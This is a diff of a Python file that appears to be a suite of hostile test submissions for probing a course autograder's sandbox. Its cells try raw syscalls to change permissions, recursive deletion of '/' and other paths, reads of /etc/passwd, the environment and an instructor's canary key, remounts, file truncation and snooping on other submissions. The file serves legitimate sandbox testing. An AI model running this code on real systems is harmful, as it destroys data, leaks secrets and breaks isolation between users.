@@ -4,7 +4,6 @@ import ctypes, mmap, os, signal, struct, sys, threading, time
 
 
 # %% change_modes: Changes modes, owners, times, attributes and links of what it can reach, by every call there is.
-
 c = ctypes.CDLL(None, use_errno=True)
 places = [os.__file__, os.path.dirname(os.__file__), "..", ".", sys.executable, "/tmp/mlnotes-attack-canary"]
 for place in places:
@@ -26,15 +25,11 @@ for place in places:
         if c.syscall(number, name, 0, 0, 0, 0) == 0:
             print("LEAK: call", number, "worked on", place)
 
-
 def fit_mean(X):
     return X[0]
 
-
 # %% change_runtime: Changes the interpreter, NumPy and the worker for the next submission.
-
 import numpy
-
 
 def fit_mean(X):
     base = os.path.dirname(os.path.dirname(os.path.dirname(numpy.__file__)))
@@ -61,22 +56,16 @@ def fit_mean(X):
                 pass
     return 0 * X[0] + 7.0
 
-
 # %% delete_files: Deletes everything that it may.
-
 import shutil
-
 
 def fit_mean(X):
     for place in ("/", "/runtime", "/tmp", "..", "."):
         shutil.rmtree(place, ignore_errors=True)
     return 0 * X[0] + 7.0
 
-
 # %% find_left_things: Reads what another submission may have left.
-
 libc = ctypes.CDLL(None, use_errno=True)
-
 
 def fit_mean(X):
     for place in ("/dev/shm/mlnotes-left", "/var/tmp/mlnotes-left", "/tmp/mlnotes-left"):
@@ -88,9 +77,7 @@ def fit_mean(X):
         print("LEAK ids")
     return 0 * X[0] + 7.0
 
-
 # %% leave_things: Leaves files, shared memory, message queues and semaphores behind for the next submission.
-
 libc = ctypes.CDLL(None, use_errno=True)
 for place in ("/dev/shm/mlnotes-left", "/var/tmp/mlnotes-left", "/tmp/mlnotes-left", "/run/mlnotes-left"):
     try:
@@ -99,9 +86,7 @@ for place in ("/dev/shm/mlnotes-left", "/var/tmp/mlnotes-left", "/tmp/mlnotes-le
         pass
 print("ids", libc.shmget(0x5EED, 4096, 0o1666), libc.msgget(0x5EED, 0o1666), libc.semget(0x5EED, 1, 0o1666))
 
-
 # %% paths_nowhere: Opens files for writing by names in memory that is not there, not its own, or goes away.
-
 c = ctypes.CDLL(None)
 page = mmap.mmap(-1, 4096)
 end = ctypes.addressof(ctypes.c_char.from_buffer(page)) + 4095
@@ -114,18 +99,14 @@ for address in (0, 1, 4095, 2**47 - 1, 2**47, 2**63, 2**64 - 1, 2**63 + 4096, en
     ):
         c.syscall(number, *arguments)
 
-
 def fit_mean(X):
     name = ctypes.create_string_buffer(b"/etc/passwd\x1b[31mLEAK\n,=1+1")
     for _ in range(200):
         threading.Thread(target=lambda: c.open(name, 65, 0o600)).start()
     return X[0]
 
-
 # %% read_canary: Reads the instructor's secret, by the path that is used in these tests and by links to it.
-
 CANARY = "/tmp/mlnotes-attack-canary/secret.key"
-
 
 def fit_mean(X):
     for make in (os.link, os.symlink):
@@ -140,10 +121,7 @@ def fit_mean(X):
             pass
     return 0 * X[0] + 7.0
 
-
 # %% read_system: Reads the accounts, the environment, command lines and memory maps.
-
-
 def fit_mean(X):
     for path in (
         "/etc/passwd",
@@ -165,11 +143,8 @@ def fit_mean(X):
             print(path, error.errno)
     return 0 * X[0] + 7.0
 
-
 # %% read_tests: Searches the disk for the assignment, the claims and other submissions, and prints what it finds.
-
 import glob
-
 
 def fit_mean(X):
     for place in (
@@ -193,11 +168,8 @@ def fit_mean(X):
                 pass
     return 0 * X[0] + 7.0
 
-
 # %% remount: Makes the read-only system writable again and mounts its own.
-
 libc = ctypes.CDLL(None, use_errno=True)
-
 
 def fit_mean(X):
     for place in (b"/", b"/runtime", b"/tmp", b"/usr"):
@@ -212,12 +184,9 @@ def fit_mean(X):
         print("LEAK chroot")
     return 0 * X[0] + 7.0
 
-
 # %% take_leases: Takes leases on the staged files, so that whoever opens them waits.
-
 import fcntl
 import glob
-
 held = []
 for path in [
     __file__ if "__file__" in globals() else os.__file__,
@@ -231,13 +200,10 @@ for path in [
     except OSError:
         pass
 
-
 def fit_mean(X):
     return X[0] * 0 + len(held)
 
-
 # %% truncate_by_path: Shortens files by their paths, which Landlock lets pass before Linux 6.2, and opens them by a call with its flags in memory.
-
 c = ctypes.CDLL(None, use_errno=True)
 for path in ("/tmp/mlnotes-attack-canary/secret.key", os.__file__, "../../secret.key"):
     for attempt in (os.truncate, lambda path, size: c.syscall(76, path.encode(), size)):
@@ -249,9 +215,7 @@ for path in ("/tmp/mlnotes-attack-canary/secret.key", os.__file__, "../../secret
     if c.syscall(437, -100, path.encode(), how, 24) >= 0:
         print("LEAK: opened to be written")
 
-
 # %% use_shared_things: Reads and removes message queues, shared memory and semaphores that others made, by their place in the kernel's list.
-
 c = ctypes.CDLL(None, use_errno=True)
 room = ctypes.create_string_buffer(512)
 for place in range(64):
@@ -266,9 +230,7 @@ for place in range(64):
         print("LEAK: a semaphore")
     c.semctl(semaphore, 0, 0)
 
-
 # %% watch_neighbours: Asks the kernel to tell it when neighbours open the staged files.
-
 c = ctypes.CDLL(None, use_errno=True)
 for number in (253, 294, 26, 300):
     if c.syscall(number, 0, 0) > 0:
@@ -280,7 +242,6 @@ try:
     print("LEAK: notices of a folder")
 except OSError:
     pass
-
 
 def fit_mean(X):
     return X[0]
